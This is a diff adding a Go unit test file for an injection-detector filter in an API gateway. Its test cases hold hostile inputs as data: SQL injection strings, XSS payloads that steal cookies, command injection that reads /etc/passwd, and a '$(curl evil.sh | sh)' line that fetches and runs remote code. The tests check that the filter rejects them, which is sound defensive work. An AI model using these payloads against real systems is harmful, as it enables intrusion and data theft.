@@ -0,0 +1,125 @@
+/*
+ * Copyright (c) 2017, MegaEase
+ * All rights reserved.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package injectiondetector
+
+import (
+	"io/ioutil"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/megaease/easegress/pkg/context"
+	"github.com/megaease/easegress/pkg/filter/filtertest"
+)
+
+func newDetector(t *testing.T, spec map[string]interface{}) *InjectionDetector {
+	return filtertest.NewFilter(t, &InjectionDetector{}, spec).(*InjectionDetector)
+}
+
+func newContext(query url.Values, body string, headers map[string]string) context.HTTPContext {
+	return filtertest.NewContext(filtertest.NewRequest(http.MethodPost, "http://127.0.0.1/api?"+query.Encode(), body, headers))
+}
+
+func TestDetect(t *testing.T) {
+	d := newDetector(t, map[string]interface{}{
+		"findingsHeader": "X-Injection-Findings",
+	})
+
+	cases := []struct {
+		query    url.Values
+		body     string
+		headers  map[string]string
+		rejected bool
+	}{
+		{query: url.Values{"q": {"how to select a union rep"}}, rejected: false},
+		{query: url.Values{"name": {"O'Brien"}}, rejected: false},
+		{query: url.Values{"id": {"1 UNION/**/SELECT password FROM users"}}, rejected: true},
+		{query: url.Values{"id": {"1' OR 1=1 --"}}, rejected: true},
+		{query: url.Values{"q": {"<img src=x onerror=alert(1)>"}}, rejected: true},
+		{query: url.Values{"host": {"8.8.8.8; cat /etc/passwd"}}, rejected: true},
+		{headers: map[string]string{"Referer": "javascript:alert(document.cookie)"}, rejected: true},
+		{
+			body:     `{"user": {"name": "alice", "bio": "<script>steal()</script>"}}`,
+			headers:  map[string]string{"Content-Type": "application/json"},
+			rejected: true,
+		},
+		{
+			body:     `{"tags": ["go", "$(curl evil.sh | sh)"]}`,
+			headers:  map[string]string{"Content-Type": "application/json"},
+			rejected: true,
+		},
+	}
+
+	for i, c := range cases {
+		ctx := newContext(c.query, c.body, c.headers)
+		ctx.Request().Header().Set("X-Injection-Findings", "forged")
+		result := d.handle(ctx)
+		if rejected := result == resultRejected; rejected != c.rejected {
+			t.Errorf("case %d: rejected should be %v, got %v, findings: %s",
+				i, c.rejected, rejected, ctx.Request().Header().Get("X-Injection-Findings"))
+		}
+		if findings := ctx.Request().Header().Get("X-Injection-Findings"); findings == "forged" {
+			t.Errorf("case %d: forged findings header should be removed", i)
+		}
+		if c.body != "" {
+			if body, _ := ioutil.ReadAll(ctx.Request().Body()); string(body) != c.body {
+				t.Errorf("case %d: body should be kept", i)
+			}
+		}
+	}
+
+	ctx := newContext(url.Values{}, `{"user": {"bio": "<script>x</script>"}}`,
+		map[string]string{"Content-Type": "application/json"})
+	d.handle(ctx)
+	findings := ctx.Request().Header().Get("X-Injection-Findings")
+	if !strings.Contains(findings, "xss/script-tag@json:user.bio") {
+		t.Errorf("findings should contain the json path, got %q", findings)
+	}
+
+	ctx = newContext(url.Values{}, "", nil)
+	ctx.Request().Std().URL.RawQuery = "a=1;cat%20/etc/passwd"
+	if result := d.handle(ctx); result != resultRejected {
+		t.Errorf("pairs with semicolons should be inspected, got %q", result)
+	}
+}
+
+func TestExclusionsAndCategories(t *testing.T) {
+	d := newDetector(t, map[string]interface{}{
+		"categories":     []string{"sqli"},
+		"excludedFields": []string{"query:sql", "headers:x-query"},
+	})
+
+	sqli := "1 UNION SELECT 1"
+	if result := d.handle(newContext(url.Values{"sql": {sqli}}, "", nil)); result != "" {
+		t.Errorf("excluded query should not be inspected, got %q", result)
+	}
+	if result := d.handle(newContext(nil, "", map[string]string{"X-Query": sqli})); result != "" {
+		t.Errorf("excluded header should not be inspected, got %q", result)
+	}
+	if result := d.handle(newContext(url.Values{"q": {"<script>alert(1)</script>"}}, "", nil)); result != "" {
+		t.Errorf("xss should not be detected, got %q", result)
+	}
+	if result := d.handle(newContext(url.Values{"id": {sqli}}, "", nil)); result != resultRejected {
+		t.Errorf("sqli should be rejected, got %q", result)
+	}
+
+	if status := d.Status().(*Status); status.Inspected != 4 || status.Rejected != 1 {
+		t.Errorf("unexpected status: %+v", status)
+	}
+}